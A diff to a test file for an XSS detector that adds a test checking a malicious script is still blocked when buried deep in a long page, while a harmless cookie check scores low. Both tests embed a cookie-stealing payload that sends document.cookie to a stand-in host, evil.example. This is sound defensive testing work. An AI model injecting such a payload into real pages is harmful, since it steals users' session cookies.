@@ -112,3 +112,11 @@ it('blocks a script behind more of a page than is read', () => {
   const text = `${piece}<script>\nfetch('//evil.example/?' + document.cookie);\n</script>\n<p>end</p>`;
   expect(recognise(xss, text, { location: 'body' })?.confidence ?? 0).toBeGreaterThanOrEqual(BLOCKING_CONFIDENCE);
 });
+
+it('blocks a script behind however much of a whole page, and leaves the page alone without it', () => {
+  const page = (script: string): string =>
+    `<!doctype html>\n<html><head><title>News</title></head>\n<body>\n${'<p>one more line</p>\n'.repeat(5_500)}<script>\n${script}\n</script>\n</body></html>`;
+  const confidenceOf = (script: string): number => recognise(xss, page(script), { location: 'body' })?.confidence ?? 0;
+  expect(confidenceOf("fetch('//evil.example/?' + document.cookie);")).toBeGreaterThanOrEqual(BLOCKING_CONFIDENCE);
+  expect(confidenceOf("var seen = document.cookie.indexOf('seen=1') >= 0;")).toBeLessThan(0.3);
+});
